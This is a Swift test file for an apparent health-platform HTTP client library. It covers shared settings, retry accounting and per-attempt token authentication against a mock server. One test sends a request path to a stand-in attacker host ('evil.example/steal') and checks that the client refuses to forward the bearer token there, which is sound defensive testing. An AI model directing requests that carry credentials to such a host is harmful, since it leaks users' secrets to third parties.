import Foundation
import HTTPTypes
import SanteKit
import SanteMockPlatform
import Testing

@Suite("SantePlatform against the mock platform", .timeLimit(.minutes(3)))
struct SantePlatformEndToEndTests {
    private struct Echo: Decodable {
        let method: String
        let path: String
        let headers: [String: String]
    }

    @Test("Clients made from one platform share its settings and its accounting")
    func sharedSettingsAndAccounting() async throws {
        let mock = try await MockPlatform.start()
        let platform = SantePlatform(
            environment: .localMock(baseURL: mock.baseURL), clock: TestClock(mode: .automatic),
            timeout: nil, appProduct: "MonCabinet/2.3")
        let openData = try platform.httpClient(for: .openData)
        let controls = try platform.httpClient(baseURL: mock.baseURL(for: .controls))
        await mock.faults.inject(MockFault(.status(503)), on: MockRoute(path: "/_mock/echo"), count: 1)

        let echo = try await controls.getJSON("echo", as: Echo.self)
        let missing = await #expect(throws: SanteHTTPError.self) {
            _ = try await openData.getJSON("api/1/no-such-endpoint/", as: [String: String].self)
        }
        await mock.stop()

        #expect(echo.path == "/_mock/echo")
        #expect(echo.headers["user-agent"] == "SanteKit/\(SanteKitVersion.current) MonCabinet/2.3")
        #expect(missing?.httpStatus == 404)
        #expect(missing?.url?.hasPrefix(mock.baseURL(for: .openData).absoluteString) == true)
        let total = platform.accounting.snapshot().total
        #expect(total.requests == 3, "two attempts for the echo, one for the 404")
        #expect(total.retries == 1)
        #expect(total.serverErrorResponses == 1)
        #expect(total.clientErrorResponses == 1)
    }

    @Test("A token provider authenticates every attempt")
    func tokenOnEveryAttempt() async throws {
        let mock = try await MockPlatform.start()
        let counter = TokenCounter()
        let platform = SantePlatform(
            environment: .localMock(baseURL: mock.baseURL), clock: TestClock(mode: .automatic), timeout: nil)
        let client = try platform.httpClient(
            baseURL: mock.baseURL(for: .controls),
            tokenProvider: ClosureTokenProvider { await counter.next() })
        await mock.faults.inject(MockFault(.status(503)), on: MockRoute(path: "/_mock/echo"), count: 2)

        let echo = try await client.getJSON("echo", as: Echo.self)
        let seen = await mock.requestLog.entries(forPath: "/_mock/echo").map { $0.headers[.authorization] }
        await mock.stop()

        #expect(echo.headers["authorization"] == "Bearer token-3")
        #expect(seen == ["Bearer token-1", "Bearer token-2", "Bearer token-3"])
    }
}

private actor TokenCounter {
    private var count = 0

    func next() -> String {
        count += 1
        return "token-\(count)"
    }
}

@Suite("SantePlatform keeps credentials on their origin")
struct SantePlatformCredentialOriginTests {
    @Test("A token is never sent to another origin than the client's base URL")
    func tokenStaysOnItsOrigin() async throws {
        let stub = StubTransport()
        let platform = SantePlatform(
            environment: SanteEnvironment(name: "test"), transport: stub, clock: TestClock(mode: .automatic))
        let base = try #require(URL(string: "https://api.example.fr/fhir"))
        let client = try platform.httpClient(baseURL: base, tokenProvider: ClosureTokenProvider { "secret-token" })
        let error = await #expect(throws: SanteHTTPError.self) {
            _ = try await client.send(try client.makeRequest(.get, path: "https://evil.example/steal?page=2"))
        }
        #expect(error?.requestWasSent == false)
        #expect(stub.recordedRequests.isEmpty)
        #expect(error.map { "\($0)" }?.contains("secret-token") == false)
    }
}
